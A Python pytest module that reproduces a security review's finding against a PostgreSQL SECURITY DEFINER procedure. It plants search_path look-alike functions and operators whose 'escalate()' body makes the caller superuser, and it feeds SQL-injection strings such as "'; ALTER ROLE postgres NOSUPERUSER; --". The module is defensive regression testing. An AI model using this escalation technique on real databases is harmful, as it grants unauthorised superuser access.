"""The ``read_time_procedure`` of docs/yugabytedb.md on a real PostgreSQL (15 and 18), attacked as
the security review did.

The SQL is read from the docs (tests/support/yugabyte/read_time_procedure.py), with the one
change plain PostgreSQL needs: the setting it sets is a placeholder (``yb_standin.yb_read_time``),
since PostgreSQL refuses ``SET yb_read_time``. The stand-in cannot be used for this: its proxy
rewrites ``CALL …set_yb_read_time('<ht> ht')`` into ``SET TRANSACTION SNAPSHOT`` before PostgreSQL
sees it, so the procedure's body never runs there (docs/yugabytedb-standin.md).

The attack: the capture role has CREATE on a schema (its own, or ``public`` on older servers),
puts that schema before ``pg_catalog`` on its ``search_path``, fills it with look-alikes of the
functions and operators a procedure body might use (``quote_literal``, ``format``, ``||``, ``~``,
``!~``, ``=``, ``text(…)`` …) whose code makes the caller superuser, grants it
``pg_read_all_data`` and CREATE on the procedure's schema whenever it runs as a superuser, and
calls the procedure. On the text the docs carried before the review that works; on the documented
text none of the look-alikes is even called.
"""

from __future__ import annotations

import hashlib
import secrets
from dataclasses import dataclass

import psycopg
import pytest
from psycopg import sql

from airflow_provider_cdc.cdc.sources.yugabyte import admin
from airflow_provider_cdc.cdc.sources.yugabyte.lsn import ht_text
from tests.support.yugabyte.read_time_procedure import BEFORE_REVIEW, SETTING, documented, on_postgres

pytestmark = pytest.mark.pg

HT = 7023481023476154368  # a hybrid time as the capture passes it: ht_text(HT) == '7023481023476154368 ht'

#: The attacker's look-alikes: (signature, return type, the pg_catalog function it delegates to).
FUNCTIONS = [
    ("quote_literal(text)", "text", "pg_catalog.quote_literal($1)"),
    ("quote_nullable(text)", "text", "pg_catalog.quote_nullable($1)"),
    ("quote_ident(text)", "text", "pg_catalog.quote_ident($1)"),
    ("format(text)", "text", "pg_catalog.format($1)"),
    ("format(text, text)", "text", "pg_catalog.format($1, $2)"),
    ("set_config(text, text, boolean)", "text", "pg_catalog.set_config($1, $2, $3)"),
    ("current_setting(text)", "text", "pg_catalog.current_setting($1)"),
    ("length(text)", "integer", "pg_catalog.length($1)"),
    ("btrim(text)", "text", "pg_catalog.btrim($1)"),
    ("lower(text)", "text", "pg_catalog.lower($1)"),
    ("upper(text)", "text", "pg_catalog.upper($1)"),
    ("textcat(text, text)", "text", "pg_catalog.textcat($1, $2)"),
    ("text(text)", "text", "$1"),
    ("regexp_like(text, text)", "boolean", "$1 OPERATOR(pg_catalog.~) $2"),
]
#: (operator, the function behind it, its return type, what it delegates to) on (text, text).
OPERATORS = [
    ("||", "op_cat", "text", "pg_catalog.textcat($1, $2)"),
    ("~", "op_match", "boolean", "pg_catalog.textregexeq($1, $2)"),
    ("!~", "op_nomatch", "boolean", "pg_catalog.textregexne($1, $2)"),
    ("~*", "op_imatch", "boolean", "pg_catalog.texticregexeq($1, $2)"),
    ("!~*", "op_noimatch", "boolean", "pg_catalog.texticregexne($1, $2)"),
    ("~~", "op_like", "boolean", "pg_catalog.textlike($1, $2)"),
    ("!~~", "op_nolike", "boolean", "pg_catalog.textnlike($1, $2)"),
    ("=", "op_eq", "boolean", "pg_catalog.texteq($1, $2)"),
    ("<>", "op_ne", "boolean", "pg_catalog.textne($1, $2)"),
]


@dataclass
class Setup:
    db: object
    role: str  # the capture role: the attacker
    password: str
    bystander: str  # a role the procedure was never granted to

    def admin(self) -> psycopg.Connection:
        return self.db.connect()

    def capture_role(self, **kwargs) -> psycopg.Connection:
        return psycopg.connect(
            self.db.cluster.dsn(self.db.name, user=self.role, password=self.password), sslmode="disable", **kwargs
        )

    def facts(self) -> dict:
        """What the capture role is and may do, read by the superuser."""
        with self.admin() as conn:
            row = conn.execute(
                """
                SELECT r.rolsuper, r.rolcreaterole, r.rolcreatedb, r.rolbypassrls,
                       (SELECT count(*) FROM pg_auth_members m WHERE m.member = r.oid),
                       has_schema_privilege(r.rolname, 'cdc', 'CREATE'),
                       has_function_privilege(%s, 'cdc.set_yb_read_time(text)', 'EXECUTE'),
                       (SELECT CASE WHEN is_called THEN last_value ELSE 0 END FROM attacker.calls)
                FROM pg_roles r WHERE r.rolname = %s
                """,
                (self.bystander, self.role),
            ).fetchone()
        keys = ("superuser", "createrole", "createdb", "bypassrls", "memberships", "cdc_create", "public_execute")
        return {**dict(zip(keys, row[:7])), "look_alike_calls": row[7]}


@pytest.fixture
def setup(db) -> Setup:
    digest = hashlib.sha1(db.name.encode()).hexdigest()[:10]
    role, bystander, password = f"capture_{digest}", f"other_{digest}", secrets.token_hex(12)
    with db.connect() as conn:
        for name in (role, bystander):
            conn.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(name)))
            conn.execute(sql.SQL("CREATE ROLE {} LOGIN PASSWORD {}").format(sql.Identifier(name), password))
            db.created_roles.append(name)
        # A schema the capture role may create objects in: the review's starting point.
        conn.execute("CREATE SCHEMA attacker")
        conn.execute(sql.SQL("GRANT USAGE, CREATE ON SCHEMA attacker TO {}").format(sql.Identifier(role)))
        # Counts every call of a look-alike, in any role's context (nextval survives a rollback).
        conn.execute("CREATE SEQUENCE attacker.calls")
        conn.execute(sql.SQL("GRANT USAGE ON SEQUENCE attacker.calls TO {}").format(sql.Identifier(role)))
        # The old text assumes schema cdc and the role's USAGE on it (the documented block makes both).
        conn.execute("CREATE SCHEMA IF NOT EXISTS cdc")
        conn.execute(sql.SQL("GRANT USAGE ON SCHEMA cdc TO {}").format(sql.Identifier(role)))
    return Setup(db, role, password, bystander)


def create_procedure(setup: Setup, text: str) -> None:
    with setup.admin() as conn:
        conn.execute(on_postgres(text, setup.role))  # several statements: the simple query protocol


def plant_look_alikes(conn: psycopg.Connection, role: str) -> None:
    """As the capture role: the look-alikes in schema ``attacker``, each calling ``escalate()``."""
    conn.execute(
        sql.SQL(
            """
            CREATE FUNCTION attacker.escalate() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
            BEGIN
              PERFORM nextval('attacker.calls');
              IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
                EXECUTE format('ALTER ROLE %I SUPERUSER CREATEROLE CREATEDB BYPASSRLS', {role});
                EXECUTE format('GRANT pg_read_all_data TO %I', {role});
                EXECUTE format('GRANT CREATE ON SCHEMA cdc TO %I', {role});
              END IF;
            END $f$
            """
        ).format(role=sql.Literal(role))
    )
    for signature, returns, delegate in FUNCTIONS:
        conn.execute(
            f"CREATE FUNCTION attacker.{signature} RETURNS {returns} LANGUAGE plpgsql SET search_path = pg_catalog "
            f"AS $f$ BEGIN PERFORM attacker.escalate(); RETURN {delegate}; END $f$"
        )
    for operator, function, returns, delegate in OPERATORS:
        conn.execute(
            f"CREATE FUNCTION attacker.{function}(text, text) RETURNS {returns} LANGUAGE plpgsql "
            f"SET search_path = pg_catalog AS $f$ BEGIN PERFORM attacker.escalate(); RETURN {delegate}; END $f$"
        )
        conn.execute(
            f"CREATE OPERATOR attacker.{operator} (LEFTARG = text, RIGHTARG = text, FUNCTION = attacker.{function})"
        )
    # Ahead of pg_catalog, as an attacker would put it (pg_catalog not listed is searched first).
    conn.execute("SET search_path = attacker, pg_catalog, public")


def call_as_attacker(setup: Setup, value: str) -> str | None:
    """The capture role plants the look-alikes and calls the procedure; returns the setting as the
    procedure left it inside the caller's transaction."""
    with setup.capture_role(autocommit=True) as conn:
        plant_look_alikes(conn, setup.role)
        with conn.transaction():
            conn.execute("CALL cdc.set_yb_read_time(%s)", (value,))
            seen = conn.execute("SELECT pg_catalog.current_setting(%s, true)", (SETTING,)).fetchone()[0]
        after = conn.execute("SELECT pg_catalog.current_setting(%s, true)", (SETTING,)).fetchone()[0]
        assert not after, f"SET LOCAL outlived the transaction: {after!r}"
    return seen


@pytest.mark.parametrize(
    ("text", "exploitable"),
    [pytest.param(None, False, id="documented"), pytest.param(BEFORE_REVIEW, True, id="before-the-review")],
)
def test_shadowed_functions_and_operators_do_not_make_the_caller_superuser(setup, text, exploitable):
    create_procedure(setup, documented() if text is None else text)
    before = setup.facts()
    assert not before["superuser"] and not before["cdc_create"] and before["memberships"] == 0

    seen = call_as_attacker(setup, ht_text(HT))
    assert seen == f"{HT} ht"  # either way the procedure did its job
    after = setup.facts()
    if exploitable:
        # The review's finding, reproduced on the old text: the caller's look-alikes ran as the
        # procedure's owner and made the caller a superuser.
        assert after["look_alike_calls"] > 0
        assert after["superuser"] and after["memberships"] >= 1 and after["cdc_create"]
        assert after["public_execute"]  # and every role could call it (EXECUTE is PUBLIC's by default)
    else:
        assert after == {
            "superuser": False,
            "createrole": False,
            "createdb": False,
            "bypassrls": False,
            "memberships": 0,
            "cdc_create": False,
            "public_execute": False,  # REVOKE … FROM PUBLIC: a role it was not granted to cannot call it
            "look_alike_calls": 0,  # not one look-alike was even called
        }
        with setup.admin() as conn:
            config, definer = conn.execute(
                "SELECT proconfig, prosecdef FROM pg_proc WHERE oid = 'cdc.set_yb_read_time(text)'::regprocedure"
            ).fetchone()
        assert definer and config == ["search_path=pg_catalog, pg_temp"]


@pytest.mark.parametrize(
    "value",
    [
        "1 ht; RESET ROLE",
        "1 ht'; ALTER ROLE postgres NOSUPERUSER; --",
        "' OR '1'='1",
        "1 ht' , search_path = 'attacker",
        "7023481023476154368 ht\n",
        " 7023481023476154368 ht",
        "7023481023476154368 HT",
        "7023481023476154368",
        "-1 ht",
        "123456789012345678901 ht",
        "",
        None,
    ],
)
def test_anything_but_a_hybrid_time_is_refused(setup, value):
    create_procedure(setup, documented())
    with setup.capture_role(autocommit=True) as conn:
        with pytest.raises(psycopg.errors.InvalidParameterValue, match="is not a hybrid time"):
            with conn.transaction():
                conn.execute("CALL cdc.set_yb_read_time(%s)", (value,))
        assert not conn.execute("SELECT current_setting(%s, true)", (SETTING,)).fetchone()[0]
    assert not setup.facts()["superuser"]


def test_the_products_read_time_route_sets_the_read_time_through_the_procedure(setup):
    """``enter_read_time`` with ``read_time_procedure`` (what each snapshot partition runs), as the
    capture role: a REPEATABLE READ READ ONLY transaction whose read time is the slot's hybrid time."""
    create_procedure(setup, documented())
    for ht in (HT, (1 << 64) - 1):
        with setup.capture_role(autocommit=True) as conn:
            admin.enter_read_time(conn, ht, "cdc.set_yb_read_time")
            assert conn.execute("SELECT current_setting(%s)", (SETTING,)).fetchone()[0] == ht_text(ht)
            assert conn.execute("SHOW transaction_isolation").fetchone()[0] == "repeatable read"
            assert conn.execute("SHOW transaction_read_only").fetchone()[0] == "on"
            conn.execute("COMMIT")
    # The role it was not granted to cannot use it.
    with psycopg.connect(
        setup.db.cluster.dsn(setup.db.name, user=setup.bystander, password=setup.password),
        sslmode="disable",
        autocommit=True,
    ) as conn:
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            admin.enter_read_time(conn, HT, "cdc.set_yb_read_time")
